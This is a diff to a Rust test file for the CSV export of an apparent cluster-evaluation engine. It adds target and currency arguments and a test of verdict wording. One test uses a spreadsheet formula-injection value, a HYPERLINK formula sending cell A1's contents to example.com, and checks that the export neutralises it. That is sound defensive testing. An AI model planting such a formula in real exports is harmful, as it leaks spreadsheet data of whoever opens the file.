@@ -11,7 +11,7 @@ fn formula_text_in_a_project_name_is_neutralised_in_every_row() {
     let results = cluster_eval_engine::compute(&doc);
     let name = "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")";
     for lang in Lang::ALL {
-        let csv = results_csv(lang, &results, name);
+        let csv = results_csv(lang, &results, name, &doc.targets, "USD");
         for line in csv.lines().skip(1) {
             assert!(
                 line.starts_with("\"'=HYPERLINK("),
@@ -35,7 +35,7 @@ fn every_formula_start_is_guarded_and_other_text_is_not() {
 fn negative_numbers_stay_numbers() {
     let doc = example::document(Lang::Es);
     let results = cluster_eval_engine::compute(&doc);
-    let csv = results_csv(Lang::Es, &results, "Masaya");
+    let csv = results_csv(Lang::Es, &results, "Masaya", &doc.targets, "USD");
     // Some indicator of the example is negative; its value is written as a number.
     let negative = results
         .indicators
@@ -64,4 +64,27 @@ fn download_names_are_capped_and_have_no_direction_marks() {
         safe_file_name("Masaya: 2003/2006", "json"),
         "Masaya_ 2003_2006.json"
     );
+}
+
+#[test]
+fn the_csv_words_verdicts_by_kind_and_prints_a_target() {
+    let mut doc = example::document(Lang::En);
+    doc.targets.insert("short.participation_share".into(), 0.8);
+    let results = cluster_eval_engine::compute(&doc);
+    let csv = results_csv(Lang::En, &results, "Masaya", &doc.targets, "USD");
+    let row = |id: &str| {
+        csv.lines()
+            .find(|l| l.contains(&format!("\"{id}\"")))
+            .unwrap_or_else(|| panic!("no row for {id}"))
+            .to_string()
+    };
+    assert!(row("long.beneficiaries.sales.vs_control").contains("\"Favourable"));
+    assert!(row("design.attrition.differential").contains("\"Passed\""));
+    assert!(
+        row("short.participation_share").contains("(target: 80"),
+        "{}",
+        row("short.participation_share")
+    );
+    assert!(row("long.return_per_dollar").contains("\"As entered\""));
+    assert!(!csv.contains("\"Met\""), "a verdict is worded \"Met\"");
 }
